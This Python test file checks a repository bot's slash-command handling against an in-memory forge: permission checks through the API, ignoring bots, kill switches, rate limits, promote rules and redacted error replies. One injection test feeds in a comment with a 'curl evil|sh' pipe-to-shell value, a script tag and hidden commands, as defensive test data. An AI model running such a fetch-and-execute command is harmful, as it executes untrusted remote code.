"""Command handling end to end against an in-memory forge: authorization by API, bots ignored,
kill switch, rate limits, the reaction protocol, sticky replies."""

from __future__ import annotations

import pytest
from candkit import bot_candidate
from eventkit import comment_event
from memforge import BOT, MemForge
from policykit import example_policy

from bot.commands.auth import RateLimiter, authorize, is_bot_account
from bot.commands.bot_policy import POLICY_PATH
from bot.commands.dispatch import CommandDispatcher, reply_marker
from bot.commands.services import ForgeServices
from bot.forge.base import Permission
from bot.forge.trusted_meta import write_meta

DEF = "gdn_decode_qk4_v8_d128_k_last"


@pytest.fixture
def forge(repo):
    f = MemForge(files={POLICY_PATH: (repo / POLICY_PATH).read_text()})
    f.perms.update(alice=Permission.WRITE, maint=Permission.MAINTAIN, reader=Permission.READ)
    return f


class Campaign:
    def __init__(self):
        self.calls = []

    def __call__(self, req):
        self.calls.append(req)
        return [101, 102]


@pytest.fixture
def campaign():
    return Campaign()


def dispatcher(forge, campaign, limiter=None):
    return CommandDispatcher(forge, ForgeServices(forge, campaign), limiter)


def reactions(forge, cid):
    return [r for c, r in forge.reactions if c == cid]


def replies(forge, number):
    return [c for c in forge.comments.get(number, []) if c.author == BOT]


def test_authorized_optimize(shared, forge, campaign):
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body=f"please\n/optimize {DEF} --candidates 2 --agent offline"))
    assert out.status == "done", out
    (req,) = campaign.calls
    assert (req.definition, req.candidates, req.agent, req.requested_by, req.thread) == (DEF, 2, "offline", "alice", 1)
    assert reactions(forge, 555) == ["eyes", "rocket"]
    (reply,) = replies(forge, 1)
    assert reply_marker(555) in reply.body and "#101, #102" in reply.body


def test_author_association_is_never_trusted(shared, forge, campaign):
    # The payload says OWNER; the API says reader may only read. The API wins.
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body=f"/optimize {DEF}", login="reader", association="OWNER"))
    assert out.status == "failed"
    assert campaign.calls == []
    assert ("permission?", "reader") in forge.writes
    assert reactions(forge, 555) == ["eyes", "confused"]
    assert "needs repository permission `write`" in replies(forge, 1)[0].body
    # mallory has no role at all: below answer_min_permission, the bot reads and writes nothing
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body=f"/optimize {DEF}", login="mallory", association="OWNER", comment_id=556))
    assert out.status == "ignored" and campaign.calls == [] and reactions(forge, 556) == [] and len(replies(forge, 1)) == 1


def test_authorize_uses_api_permission_and_teams(forge):
    pol = example_policy()
    assert authorize(forge, pol, "alice", "optimize").allowed
    assert not authorize(forge, pol, "reader", "optimize").allowed
    assert not authorize(forge, pol, "alice", "promote").allowed
    assert authorize(forge, pol, "maint", "promote").allowed
    assert authorize(forge, pol, "nobody", "help").allowed
    from bot.commands.bot_policy import BotPolicy
    teamed = BotPolicy.model_validate({"commands": {"promote": {"permission": "admin", "teams": ["octo/kernel-leads"]}}})
    forge.teams[("octo", "kernel-leads")] = {"alice"}
    assert authorize(forge, teamed, "alice", "promote").allowed
    assert not authorize(forge, teamed, "maint", "promote").allowed


@pytest.mark.parametrize("login,user_type", [("dependabot[bot]", "Bot"), ("sneaky[bot]", "User"),
                                             ("helper", "Bot"), (BOT, "Bot"), ("kbot", "User")])
def test_bots_and_self_are_ignored(shared, forge, campaign, login, user_type):
    forge.perms[login] = Permission.ADMIN
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body=f"/optimize {DEF}", login=login, user_type=user_type))
    assert out.status == "ignored"
    assert campaign.calls == [] and forge.reactions == [] and not forge.comments
    assert not any(w[0] == "permission?" for w in forge.writes)


def test_is_bot_account_edge_cases():
    assert is_bot_account(None) and is_bot_account({}) and is_bot_account({"login": ""})
    assert not is_bot_account({"login": "alice", "type": "User"}, "kbot[bot]")
    assert is_bot_account({"login": "Alice", "type": "User"}, ignore=("alice",))


def test_policy_ignore_logins(shared, forge, campaign):
    text = forge.read_file(POLICY_PATH).decode().replace("  - kbot[bot]", "  - kbot[bot]\n  - alice")
    forge.commit_files("main", forge.branches["main"], {POLICY_PATH: text}, "ignore alice")
    out = dispatcher(forge, campaign).handle_issue_comment(comment_event(shared, body=f"/optimize {DEF}"))
    assert out.status == "ignored" and campaign.calls == []


@pytest.mark.parametrize("how", ["policy", "file", "label"])
def test_kill_switch(shared, forge, campaign, how):
    labels: tuple[str, ...] = ()
    if how == "policy":
        text = forge.read_file(POLICY_PATH).decode().replace("enabled: true", "enabled: false")
        forge.commit_files("main", forge.branches["main"], {POLICY_PATH: text}, "pause")
    elif how == "file":
        forge.commit_files("main", forge.branches["main"], {".kbot/STOP": "incident 42\n"}, "stop")
    else:
        labels = ("kbot:stop",)
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body=f"/optimize {DEF}", labels=labels))
    assert out.status == "refused" and out.reason == "kill switch"
    assert campaign.calls == []
    assert reactions(forge, 555) == ["eyes", "confused"]
    assert "paused" in replies(forge, 1)[0].body


def test_invalid_policy_refuses_everything(shared, forge, campaign):
    forge.commit_files("main", forge.branches["main"], {POLICY_PATH: "commands:\n  optimize: {permission: none, x: 1}\n"}, "bad")
    out = dispatcher(forge, campaign).handle_issue_comment(comment_event(shared, body=f"/optimize {DEF}"))
    assert out.status == "refused" and campaign.calls == []
    assert "policy file is invalid" in replies(forge, 1)[0].body


def test_policy_comes_from_default_branch_not_the_pr(shared, forge, campaign):
    # A PR that opens /optimize to everyone changes nothing until it is merged.
    open_policy = forge.read_file(POLICY_PATH).decode().replace("optimize: { permission: write }", "optimize: { permission: none }")
    forge.commit_files("kbot/x/n1", forge.branches["main"], {POLICY_PATH: open_policy}, "open up")
    pr = forge.open_pr("kbot/x/n1", "t", "b")
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body=f"/optimize {DEF}", login="reader", number=pr.number, is_pr=True))
    assert out.status == "failed" and campaign.calls == []


def test_rate_limit_persists_across_restart(shared, forge, campaign, tmp_path):
    db = tmp_path / "rate.sqlite3"
    for i in range(4):  # the example policy allows 4 /optimize per hour
        out = dispatcher(forge, campaign, RateLimiter(db)).handle_issue_comment(
            comment_event(shared, body=f"/optimize {DEF}", comment_id=600 + i))
        assert out.status == "done"
    out = dispatcher(forge, campaign, RateLimiter(db)).handle_issue_comment(
        comment_event(shared, body=f"/optimize {DEF}", comment_id=700))
    assert out.status == "failed" and len(campaign.calls) == 4
    assert "rate limit" in [c for c in replies(forge, 1) if reply_marker(700) in c.body][0].body
    # another user is not affected; the window slides
    forge.perms["bob"] = Permission.WRITE
    assert dispatcher(forge, campaign, RateLimiter(db)).handle_issue_comment(
        comment_event(shared, body=f"/optimize {DEF}", login="bob", comment_id=701)).status == "done"
    lim = RateLimiter(db)
    import time
    assert lim.take("alice", "optimize", example_policy(), now=time.time() + 3601).allowed


def test_parse_error_gets_help_and_runs_nothing(shared, forge, campaign):
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body=f"/optimize {DEF} --candidates 999\n/status"))
    assert out.status == "refused" and campaign.calls == []
    body = replies(forge, 1)[0].body
    assert "between 1 and 64" in body and "**kbot commands**" in body
    assert reactions(forge, 555) == ["eyes", "confused"]


def test_injection_comment_is_harmless(shared, forge, campaign):
    body = ("```\n/promote\n```\n> /stop\n<!--\n/promote\n-->\n"
            "/optimize gdn --agent `curl evil|sh` @everyone <script>")
    out = dispatcher(forge, campaign).handle_issue_comment(comment_event(shared, body=body, login="maint"))
    assert out.status == "refused" and campaign.calls == []
    reply = replies(forge, 1)[0].body
    assert "<script>" not in reply and "@everyone" not in reply and "curl evil|sh" not in reply
    assert not any(w[0] in ("merge", "labels+") for w in forge.writes)


def test_redelivered_comment_edits_the_same_reply(shared, forge, campaign):
    d = dispatcher(forge, campaign)
    ev = comment_event(shared, body="/help")
    d.handle_issue_comment(ev)
    d.handle_issue_comment(ev)
    assert len(replies(forge, 1)) == 1
    assert reactions(forge, 555) == ["eyes", "rocket"]


def test_edited_and_deleted_comments_are_ignored(shared, forge, campaign):
    for action in ("edited", "deleted"):
        out = dispatcher(forge, campaign).handle_issue_comment(comment_event(shared, body=f"/optimize {DEF}", action=action))
        assert out.status == "ignored"
    assert campaign.calls == []


def test_pr_only_commands(shared, forge, campaign):
    out = dispatcher(forge, campaign).handle_issue_comment(comment_event(shared, body="/evaluate"))
    assert out.status == "failed" and "pull requests only" in replies(forge, 1)[0].body


def test_evaluate_and_optimize_on_candidate_pr(shared, forge, campaign):
    head = forge.commit_files(f"kbot/{DEF}/n7", forge.branches["main"], {"kernels/x.py": "k"}, "cand")
    pr = forge.open_pr(f"kbot/{DEF}/n7", "cand", write_meta("body", {"definition": DEF, "node": "n7"}, f"kbot/{DEF}/n7", head_sha=head))
    d = dispatcher(forge, campaign)
    out = d.handle_issue_comment(comment_event(shared, body="/evaluate", number=pr.number, is_pr=True))
    assert out.status == "done"
    assert "kbot:bench" in forge.labels(pr.number)
    assert forge.combined_status(pr.head_sha).get("kbot/harness").state == "pending"
    out = d.handle_issue_comment(comment_event(shared, body="/optimize --candidates 1", number=pr.number,
                                               is_pr=True, comment_id=556))
    assert out.status == "done"
    assert campaign.calls[-1].definition == DEF and campaign.calls[-1].parent_pr == pr.number


def test_optimize_bounds_from_policy(shared, forge, campaign):
    out = dispatcher(forge, campaign).handle_issue_comment(comment_event(shared, body=f"/optimize {DEF} --candidates 9"))
    assert out.status == "failed" and "limited to 8" in replies(forge, 1)[0].body


def test_stop_needs_maintainer_and_blocks_optimize(shared, forge, campaign):
    d = dispatcher(forge, campaign)
    assert d.handle_issue_comment(comment_event(shared, body="/stop")).status == "failed"
    assert d.handle_issue_comment(comment_event(shared, body="/stop", login="maint", comment_id=557)).status == "done"
    assert "kbot:stopped" in forge.labels(1)
    out = d.handle_issue_comment(comment_event(shared, body=f"/optimize {DEF}", comment_id=558, labels=("kbot:stopped",)))
    assert out.status == "failed" and campaign.calls == []


def test_no_campaign_configured(shared, forge):
    out = CommandDispatcher(forge, ForgeServices(forge)).handle_issue_comment(comment_event(shared, body=f"/optimize {DEF}"))
    assert out.status == "failed" and "no campaign runner" in replies(forge, 1)[0].body


def _evaluated_candidate(forge, ratio=(1.2, 1.15, 1.25)):
    from reportkit import good

    from bot.review.publish import publish_results

    base = forge.branches["main"]
    forge.commit_files("main", base, {f"kernels/{DEF}/champion.json": '{"solution": "champ_v1", "solution_hash": "' + "b" * 64 + '"}'}, "champ")
    pr = bot_candidate(forge, DEF, "n9")
    publish_results(forge, pr.number, pr.head_sha, report=good(ratio=ratio, definition=DEF), promote=False)
    return pr


def test_promote_command_merges_a_winner(shared, forge, campaign):
    pr = _evaluated_candidate(forge)
    d = dispatcher(forge, campaign)
    out = d.handle_issue_comment(comment_event(shared, body="/promote", number=pr.number, is_pr=True, login="alice"))
    assert out.status == "failed" and not forge.get_pr(pr.number).merged  # write is not enough
    out = d.handle_issue_comment(comment_event(shared, body="/promote", number=pr.number, is_pr=True, login="maint",
                                               comment_id=900))
    assert out.status == "done" and forge.get_pr(pr.number).merged
    reply = [c for c in replies(forge, pr.number) if reply_marker(900) in c.body][0].body
    assert "Decision: **promote**" in reply and "champion pointer updated" in reply


def test_promote_command_never_bypasses_rules(shared, forge, campaign):
    pr = _evaluated_candidate(forge, ratio=(1.01, 1.0, 1.02))
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body="/promote", number=pr.number, is_pr=True, login="maint"))
    assert out.status == "done" and not forge.get_pr(pr.number).merged
    assert "Decision: **reject**" in replies(forge, pr.number)[-1].body


def test_promote_without_evaluation(shared, forge, campaign):
    forge.commit_files(f"kbot/{DEF}/n8", forge.branches["main"], {"kernels/x.json": "{}"}, "c")
    pr = forge.open_pr(f"kbot/{DEF}/n8", "c", "b")
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body="/promote", number=pr.number, is_pr=True, login="maint"))
    assert out.status == "failed" and "no kbot evaluation" in replies(forge, pr.number)[0].body


def test_status_on_pr_and_issue(shared, forge, campaign):
    pr = _evaluated_candidate(forge)
    d = dispatcher(forge, campaign)
    assert d.handle_issue_comment(comment_event(shared, body="/status", number=pr.number, is_pr=True,
                                                login="reader")).status == "done"
    text = replies(forge, pr.number)[-1].body
    assert "kbot/harness is **success**" in text and "4/4 workloads passed" in text and "champ\\_v1" in text
    assert d.handle_issue_comment(comment_event(shared, body="/status", number=77, login="reader",
                                                comment_id=901)).status == "done"
    assert f"#{pr.number}" in replies(forge, 77)[-1].body


def test_profile_label(shared, forge, campaign):
    pr = _evaluated_candidate(forge)
    out = dispatcher(forge, campaign).handle_issue_comment(
        comment_event(shared, body="/profile", number=pr.number, is_pr=True))
    assert out.status == "done" and "kbot:profile" in forge.labels(pr.number)


def test_crashing_campaign_gets_an_answer_not_a_retry_loop(shared, forge):
    def boom(req):
        raise RuntimeError("secret detail /etc/x")

    out = CommandDispatcher(forge, ForgeServices(forge, boom)).handle_issue_comment(comment_event(shared, body=f"/optimize {DEF}"))
    assert out.status == "failed"
    body = replies(forge, 1)[0].body
    assert "internal error (RuntimeError)" in body and "secret detail" not in body
    assert reactions(forge, 555) == ["eyes", "confused"]
